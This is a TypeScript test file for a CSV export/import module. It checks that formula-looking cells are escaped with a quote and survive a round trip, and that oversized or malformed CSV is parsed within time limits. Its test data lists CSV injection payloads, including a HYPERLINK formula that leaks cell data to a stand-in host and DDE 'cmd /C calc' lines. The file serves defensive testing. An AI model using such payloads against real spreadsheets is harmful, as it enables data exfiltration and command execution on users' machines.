import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type CsvField, recordsFromCsv, recordsToCsv } from '@core/module-view/record-csv';
import { asTextCell, csvLines, csvText, fromTextCell, separatorOf } from '@core/text/csv';
import '../../support/seed';

const column = (name: string, choices: CsvField['choices'] = []): CsvField => ({
  name,
  title: name,
  kind: choices.length > 0 ? 'picklist' : 'text',
  choices,
});
const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"Details")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  "'=1+1",
];

describe('a record whose text is a formula', () => {
  it.each(formulas)('is a text in the table that is exported, and comes back as it was: %j', (name) => {
    const record = { uuid: 'u', name };
    const lines = csvLines(csvText(recordsToCsv([record], [column('name')])));
    expect(lines[1]?.[1]).toMatch(/^'/);
    expect(recordsFromCsv(lines, [column('name')], [record], () => ({}))).toMatchObject({
      changed: 0,
      added: 0,
    });
    const [made] = recordsFromCsv(lines, [column('name')], [], () => ({})).list;
    expect(made).toEqual(record);
  });

  it('has its field named by a text too', () => {
    const [head] = recordsToCsv([{ uuid: 'u', '=1': 'x' }], [column('=1')]);
    expect(head).toEqual(['uuid', "'=1"]);
  });
});

it('every cell comes back, and none that is marked is left to be computed', () =>
  fc.assert(
    fc.property(fc.string(), fc.constantFrom('', '=', "'=", '-', '+1', '@', "''"), (text, before) => {
      const cell = before + text;
      const marked = asTextCell(cell);
      expect(fromTextCell(marked)).toBe(cell);
      if (!/^[+-]?[\d.]/.test(marked)) expect(marked).not.toMatch(/^[=+\-@\t\r]/);
    }),
  ));

it('numbers below zero stay numbers', () =>
  expect(['-5', '+4.5', '-1e6'].map(asTextCell)).toEqual(['-5', '+4.5', '-1e6']));

it.each<[string, string]>([
  [
    'a hundred thousand columns of one name',
    `uuid${',state'.repeat(100_000)}\nu1${',Open'.repeat(100_000)}\n`,
  ],
  ['a quote that nothing closes', `uuid,state\nu1,"${'x,\n'.repeat(300_000)}`],
  ['quotes without end', '"'.repeat(2_000_001)],
  ['lines of nothing', '\r\n'.repeat(500_000)],
  ['bytes of nothing', 'uuid,state\n\u0000\u0000,\u0000\n'],
])(
  'a table of %s is read within its bound',
  (_what, text) => {
    const choices = Array.from({ length: 2_000 }, (_, at) => ({
      iri: `/api/3/picklists/${at}`,
      name: `n${at}`,
    }));
    const begun = performance.now();
    const made = recordsFromCsv(
      csvLines(text, separatorOf(text)),
      [column('state', choices)],
      [{ uuid: 'u1' }],
      () => ({}),
    );
    expect(made.problems.length).toBeLessThanOrEqual(100);
    expect(performance.now() - begun).toBeLessThan(10_000);
  },
  30_000,
);
